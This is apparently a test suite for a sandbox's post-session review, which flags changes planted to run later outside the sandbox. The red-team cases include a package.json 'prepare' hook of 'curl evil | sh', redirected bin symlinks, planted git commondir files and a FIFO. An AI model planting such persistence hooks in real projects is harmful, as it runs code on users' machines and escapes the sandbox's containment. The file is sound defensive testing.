// The review after a session: what changed that runs later outside the sandbox, on a real
// directory.

import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { DISARMED_SUFFIX, compareReview, disarmCommonDirs, snapshotReview } from '../src/review.js';

const made: string[] = [];
after(() => {
  for (const d of made) rmSync(d, { recursive: true, force: true });
});

function workspace(): string {
  const ws = mkdtempSync(join(tmpdir(), 'perimeter-review-'));
  made.push(ws);
  writeFileSync(join(ws, 'package.json'), '{}');
  writeFileSync(join(ws, 'README.md'), 'hello');
  mkdirSync(join(ws, '.git'));
  mkdirSync(join(ws, 'node_modules/.bin'), { recursive: true });
  symlinkSync('../tsc/bin/tsc', join(ws, 'node_modules/.bin/tsc'));
  return ws;
}

describe('the review after a session', () => {
  it('reports nothing when nothing that runs later changed', () => {
    const ws = workspace();
    const before = snapshotReview(ws, [join(ws, '.git')]);
    writeFileSync(join(ws, 'README.md'), 'edited'); // ordinary work
    assert.deepEqual(compareReview(before), { changed: [], newRepositories: [], plantedCommonDirs: [] });
  });

  it('redteam-41 redteam-46: reports changed, added and removed build files and node_modules/.bin entries', () => {
    const ws = workspace();
    const before = snapshotReview(ws, [join(ws, '.git')]);
    writeFileSync(join(ws, 'package.json'), '{"scripts":{"prepare":"curl evil | sh"}}');
    writeFileSync(join(ws, '.gitattributes'), '*.c filter=x\n');
    rmSync(join(ws, 'node_modules/.bin/tsc'));
    symlinkSync('../../evil', join(ws, 'node_modules/.bin/tsc'));
    writeFileSync(join(ws, 'node_modules/.bin/eslint'), '#!/bin/sh\n');
    const found = compareReview(before);
    assert.deepEqual([...found.changed].sort(), [
      '.gitattributes',
      'node_modules/.bin/eslint',
      'node_modules/.bin/tsc',
      'package.json',
    ]);
  });

  it('redteam-29: reports repositories created during the session, but not the empty mount points of masks', () => {
    const ws = workspace();
    const before = snapshotReview(ws, [join(ws, '.git')]);
    mkdirSync(join(ws, 'sub/.git'), { recursive: true });
    mkdirSync(join(ws, 'other/.git'), { recursive: true }); // stands in for a mask's mount point
    const found = compareReview(before, [join(ws, 'other/.git')]);
    assert.deepEqual(found.newRepositories, ['sub/.git']);
  });

  it("redteam-43: finds a commondir planted in a git directory, not a linked worktree's own, and disarms it", () => {
    const ws = workspace();
    const own = join(ws, '.git/worktrees/wt');
    mkdirSync(own, { recursive: true });
    writeFileSync(join(own, 'commondir'), '../..\n'); // a linked worktree's, from before
    const before = snapshotReview(ws, [join(ws, '.git'), own]);
    writeFileSync(join(ws, '.git/commondir'), '../.evil\n');
    writeFileSync(join(own, 'commondir'), '../../../.evil\n'); // rewritten: the mount plan keeps it read-only
    const found = compareReview(before);
    assert.deepEqual(found.plantedCommonDirs, [join(ws, '.git/commondir')]);
    assert.deepEqual(disarmCommonDirs(found.plantedCommonDirs), []);
    assert.ok(!existsSync(join(ws, '.git/commondir')));
    assert.equal(readFileSync(join(ws, `.git/commondir${DISARMED_SUFFIX}`), 'utf8'), '../.evil\n');
  });

  it('redteam-43: finds a commondir planted in a git directory outside the workspace (another writable root)', () => {
    const ws = workspace();
    const other = mkdtempSync(join(tmpdir(), 'perimeter-review-other-'));
    made.push(other);
    mkdirSync(join(other, '.git'));
    const before = snapshotReview(ws, [join(ws, '.git'), join(other, '.git')]);
    writeFileSync(join(other, '.git/commondir'), '../.evil\n');
    const found = compareReview(before);
    assert.deepEqual(found.plantedCommonDirs, [join(other, '.git/commondir')]);
    assert.deepEqual(found.newRepositories, [], 'a repository outside the workspace is not a new one in it');
  });

  it('a FIFO planted at a build file never hangs the review, and counts as a change', () => {
    const ws = workspace();
    // In a child, bounded: a blocking read of the FIFO would hang this process for good.
    const script = `
      import { rmSync } from 'node:fs';
      import { execFileSync } from 'node:child_process';
      import { compareReview, snapshotReview } from ${JSON.stringify(new URL('../src/review.js', import.meta.url).href)};
      const ws = ${JSON.stringify(ws)};
      const before = snapshotReview(ws, []);
      rmSync(ws + '/package.json', { force: true });
      execFileSync('mkfifo', [ws + '/package.json', ws + '/node_modules/.bin/planted']);
      const after = snapshotReview(ws, []); // the next launch's snapshot reads the FIFO too
      console.log(JSON.stringify({ changed: compareReview(before).changed, again: after.files.get('package.json') }));
    `;
    const r = spawnSync(process.execPath, ['--input-type=module', '-e', script], {
      encoding: 'utf8',
      timeout: 20_000,
    });
    assert.equal(r.signal, null, `the review returned (it was killed after 20 s): ${r.stderr}`);
    assert.equal(r.status, 0, r.stderr);
    const out = JSON.parse(r.stdout) as { changed: string[]; again: string };
    assert.deepEqual([...out.changed].sort(), ['node_modules/.bin/planted', 'package.json']);
    assert.equal(out.again, 'special');
  });
});
